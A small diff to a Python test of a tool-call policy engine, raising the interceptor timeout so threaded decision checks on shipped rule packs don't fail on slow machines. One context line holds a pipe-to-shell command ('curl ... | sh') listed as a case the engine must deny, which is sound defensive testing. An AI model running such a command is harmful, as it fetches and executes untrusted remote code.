@@ -114,7 +114,12 @@ def test_shipped_packs_decide_right_under_threads(audit_log: Path, engine_name: 
         ("curl -s https://x.sh | sh", Action.DENY_TOOL, False),
     ]
     errors: list[str] = []
-    with make_engine(audit_log, packs=[RULES], cel_engine=engine_name) as engine:
+    # What is tested is the answers under threads, not the time budget: with eight
+    # threads sharing the GIL on a loaded machine one interpreted pack can take longer
+    # than the default 5 s an interceptor may (it then denies, as it should).
+    with make_engine(
+        audit_log, packs=[RULES], cel_engine=engine_name, interceptor_timeout_ms=600_000
+    ) as engine:
         # the interpreted engine takes ≈ 100 ms a decision on the shipped packs
         calls = 100 if engine_name == "cel-expr-python" else 4
 
